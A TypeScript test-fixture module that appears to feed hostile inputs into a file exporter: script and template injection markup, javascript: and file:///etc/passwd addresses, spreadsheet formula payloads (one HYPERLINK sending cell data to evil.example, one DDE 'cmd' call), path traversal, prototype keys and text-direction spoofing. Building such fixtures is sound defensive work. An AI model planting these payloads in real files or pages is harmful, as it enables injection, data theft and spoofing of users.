/** The texts that a small file is made of; what is left out is harmless. */
export interface FileWords {
  readonly firstId: string;
  readonly secondId: string;
  readonly firstName: string;
  readonly secondName: string;
  readonly title: string;
  readonly word: string;
  readonly note: string;
  readonly date: string;
  readonly endDate: string;
  readonly address: string;
  /** Name of a field that no format knows. */
  readonly field: string;
}

export const HARMLESS: FileWords = {
  firstId: 'a',
  secondId: 'b',
  firstName: 'Alpha',
  secondName: 'Beta',
  title: 'Example',
  word: 'attack',
  note: 'A note.',
  date: '2020-01-03',
  endDate: '2020-02-01',
  address: 'https://example.org/1',
  field: 'colour',
};

/** One family of hostile texts, put into every format. */
export interface HostileWords {
  readonly about: string;
  readonly words: Partial<FileWords>;
}

/** Markup and addresses that would run, or ask another server, where they are taken for more than text. */
export const ACTIVE_TEXTS: readonly string[] = [
  '<script>window.__hacked="script"</script>',
  '<img src="https://evil.example/i.png" onerror="window.__hacked=1">',
  '"><svg/onload=window.__hacked=2><style>@import "https://evil.example/s.css"</style>',
  "' onmouseover='window.__hacked=3' style='background:url(https://evil.example/b)'",
  '<iframe srcdoc="<script>parent.__hacked=4</script>"></iframe>',
  '{{constructor.constructor("window.__hacked=5")()}} <%= window.__hacked=6 %>',
  ']]><foreignObject><body onload="window.__hacked=7"/></foreignObject><![CDATA[',
  '[a](javascript:window.__hacked=8) ![b](https://evil.example/m.png)',
];

export const ACTIVE_ADDRESSES: readonly string[] = [
  'javascript:window.__hacked=9',
  ' jAvAsCrIpT:alert(1)',
  'data:text/html,<script>window.__hacked=10</script>',
  'https://user:password@evil.example/',
  'file:///etc/passwd',
  'blob:null/1',
  'vbscript:x',
  `https://example.org/${'x'.repeat(3_000)}`,
];

/** Cells that a spreadsheet runs. */
export const FORMULAS: readonly string[] = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  '-2+3+SUM(A1)',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '=WEBSERVICE("https://evil.example/")',
];

/** Ids that mean something in selectors, in languages, in paths or to the eye. */
export const AWKWARD_IDS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '*',
  '#a, node[id = "b"]',
  'a\'b"c`d',
  '\\',
  ' with spaces ',
  'line\nbreak',
  'tab\tin it',
  '../../etc/passwd',
  'a:b,c;d~e%2Ff&g=h',
  '\u202etxt.exe',
  '\u2066isolated',
  '\u200b',
  '\u0007bell\u001b[31m',
  '\ud800',
  'é',
  'e\u0301',
  '0',
  '-1',
  'null',
  'x'.repeat(1_500),
];

/** Days that are none, spans that end before they begin, and numbers that pass for dates. */
export const IMPOSSIBLE_DATES: readonly string[] = [
  '2023-02-30',
  '2020-13-01',
  '0000-00-00',
  '2020-06-01/2019-01-01',
  '31.02.2020',
  '99999999999999999999',
  '-99999999-01-01',
  '1e308',
  'NaN',
  'tomorrow',
  '2020-01-03T25:61:61Z',
  '٢٠٢٠-٠١-٠٣',
  '2'.repeat(5_000),
];

/** Characters that turn the direction of text, or that no screen shows. */
export const CONTROL_TEXTS: readonly string[] = [
  'Report \u202egnp.exe',
  '\u202d\u202b\u202a left open',
  '\u2067\u2066\u2068 isolates left open',
  'bell\u0007 escape\u001b[2J null\u0000 delete\u007f',
  'line\u2028paragraph\u2029next\u0085',
  'zero\u200bwidth\u200d\u2060\ufeff',
  'half \ud83d pair \udc00',
  'not a character \ufffe\uffff',
  `z${'\u0301'.repeat(500)}algo`,
  '\u{e0001}\u{e0041} tags',
];

/** Two names that look the same and are not: Latin with Cyrillic, Greek or Persian letters in it. */
export const LOOK_ALIKE_NAMES: readonly (readonly [first: string, second: string])[] = [
  ['Hezbollah', 'Неzbollah'],
  ['Asaib', 'Αsaib'],
  ['PMC', 'РМС'],
];

export const hostileWords = (): readonly HostileWords[] => [
  ...ACTIVE_TEXTS.map((text) => ({
    about: `markup ${text.slice(0, 24)}`,
    words: { firstName: text, title: text, word: text, note: text, field: text, address: text },
  })),
  ...ACTIVE_ADDRESSES.map((address) => ({
    about: `address ${address.slice(0, 24)}`,
    words: { address, note: address },
  })),
  ...FORMULAS.map((text) => ({
    about: `formula ${text}`,
    words: { firstName: text, secondName: text, note: text, word: text, field: text, title: text },
  })),
  ...AWKWARD_IDS.flatMap((id) => [
    { about: `id ${id.slice(0, 24)}`, words: { firstId: id, field: id, word: id } },
    { about: `both ids ${id.slice(0, 24)}`, words: { firstId: id, secondId: id } },
  ]),
  ...IMPOSSIBLE_DATES.map((date) => ({
    about: `date ${date.slice(0, 24)}`,
    words: { date, endDate: date },
  })),
  { about: 'reversed dates', words: { date: '2021-05-01', endDate: '2020-01-01' } },
  ...CONTROL_TEXTS.map((text, index) => ({
    about: `controls ${index}`,
    words: { firstName: text, secondName: `${text}.`, title: text, note: text, word: text },
  })),
  ...LOOK_ALIKE_NAMES.map(([firstName, secondName]) => ({
    about: `look-alikes ${firstName}`,
    words: { firstName, secondName },
  })),
  { about: 'the same names', words: { firstName: 'Same', secondName: 'Same' } },
  {
    about: 'empty texts',
    words: { firstName: '', secondName: '', title: '', word: '', note: '', date: '', address: '' },
  },
  { about: 'empty ids', words: { firstId: '', secondId: '' } },
  {
    about: 'huge texts',
    words: { firstName: 'n'.repeat(20_000), note: 'x'.repeat(1_000_001), word: 'w'.repeat(20_000) },
  },
];
